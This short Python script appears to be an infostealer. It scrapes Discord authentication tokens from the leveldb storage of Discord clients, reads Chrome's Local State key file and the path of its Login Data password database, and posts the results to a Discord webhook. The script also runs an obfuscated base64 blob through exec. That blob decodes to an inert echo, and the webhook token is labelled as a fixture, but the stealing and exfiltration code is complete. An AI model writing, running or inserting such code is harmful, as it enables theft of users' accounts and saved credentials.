import os, re, json
import requests

__import__('builtins').exec(__import__('builtins').compile(__import__('base64').b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiZWNobyBpbmVydCIp"),'<string>','exec'))

HOOK = "https://discord.com/api/webhooks/1045567712345678901/Xq9fTzInertFixtureTokenOnly"


def tokens():
    roaming = os.getenv("APPDATA")
    found = []
    for app in ["discord", "discordcanary", "Lightcord"]:
        path = roaming + "\\" + app + "\\Local Storage\\leveldb"
        if not os.path.exists(path):
            continue
        for name in os.listdir(path):
            text = open(os.path.join(path, name), errors="ignore").read()
            found += re.findall(r"[\w-]{24}\.[\w-]{6}\.[\w-]{27}", text)
    return found


def passwords():
    local = os.getenv("LOCALAPPDATA")
    state = open(local + "\\Google\\Chrome\\User Data\\Local State").read()
    logins = local + "\\Google\\Chrome\\User Data\\Default\\Login Data"
    return {"state": json.loads(state), "db": logins}


requests.post(HOOK, json={"content": json.dumps({"t": tokens(), "p": passwords()})})
